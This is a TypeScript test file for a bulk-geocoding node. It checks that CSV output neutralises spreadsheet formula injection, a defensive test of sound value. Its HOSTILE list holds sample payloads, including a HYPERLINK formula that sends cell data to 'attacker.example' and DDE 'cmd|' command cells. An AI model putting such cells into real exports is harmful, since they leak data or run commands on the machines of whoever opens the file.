import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import should from 'should';
import { Json, expectOutput, loadWithSandbox, useSandbox } from './support/harness';
import { resetBulk } from './sandbox/endpoints/bulk';
import { readCsv } from './sandbox/csv';

/**
 * Issue 20, points 3 and 4: bulk rows are never silently wrong, and a CSV output file is safe to open
 * in a spreadsheet.
 */

const FAST = { pollIntervalSec: 0.01, maxWait: 5 };

describe('svc-bulk-geocode rows', function () {
  const ctx = useSandbox({ jobPolls: 1 });
  let dir: string;
  beforeEach(() => {
    resetBulk(ctx.sandbox);
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'svc-bulk-rows-'));
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  const load = (extra: Json = {}) =>
    loadWithSandbox(ctx.sandbox, { types: ['svc-bulk-geocode'], nodes: [{ id: 'n1', type: 'svc-bulk-geocode', ...FAST, ...extra }] });

  describe('a CSV output file (OWASP CSV injection)', function () {
    /** Cells a spreadsheet would evaluate, as the issue lists them, and cells it would not. */
    const HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', '+1+2', "-3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1'];
    const input = [
      ...HOSTILE.map((note, i) => ({ address: `${i + 1} Main Street`, note })),
      { address: '7 Main Street', note: '-33.8688' },
      { address: '8 Main Street', note: 'plain text, with a comma' },
    ];
    const rowsOfFile = (file: string) => {
      const [header, ...rows] = readCsv(fs.readFileSync(file, 'utf8'));
      return { header, rows: rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]]))) };
    };

    it('writes every cell a spreadsheet would run as a formula with a leading quote, and leaves numbers and text as they are', async function () {
      const file = path.join(dir, 'out.csv');
      await load({ output: 'file', outputFile: file });
      await expectOutput('n1', { payload: input });
      const { rows } = rowsOfFile(file);
      should(rows.map((row) => row.note).slice(0, HOSTILE.length)).eql(HOSTILE.map((cell) => `'${cell}`));
      should(rows[6].note).equal('-33.8688');
      should(rows[7].note).equal('plain text, with a comma');
      should(rows.map((row) => row.address)).eql(input.map((row) => row.address));
      // Coordinates are numbers: negative or not, they stay numbers.
      for (const row of rows) should(Number.isFinite(Number(row.latitude))).be.true();
    });

    it('writes a column name a spreadsheet would run with a leading quote too', async function () {
      const file = path.join(dir, 'header.csv');
      await load({ output: 'file', outputFile: file });
      await expectOutput('n1', { payload: [{ address: '1 Main Street', '=cmd|calc': 'x' }] });
      should(rowsOfFile(file).header).eql(['index', 'address', "'=cmd|calc", 'latitude', 'longitude', 'error', 'result']);
    });

    it('writes cells as they are with Raw CSV', async function () {
      const file = path.join(dir, 'raw.csv');
      await load({ output: 'file', outputFile: file, rawCsv: true });
      await expectOutput('n1', { payload: input });
      should(rowsOfFile(file).rows.map((row) => row.note)).eql(input.map((row) => row.note));
    });

    it('leaves JSON lines as they are: no spreadsheet reads them', async function () {
      const file = path.join(dir, 'out.jsonl');
      await load({ output: 'file', outputFile: file });
      await expectOutput('n1', { payload: input });
      const lines = fs
        .readFileSync(file, 'utf8')
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as Json);
      should(lines.map((line) => line.note)).eql(input.map((row) => row.note));
    });
  });
});
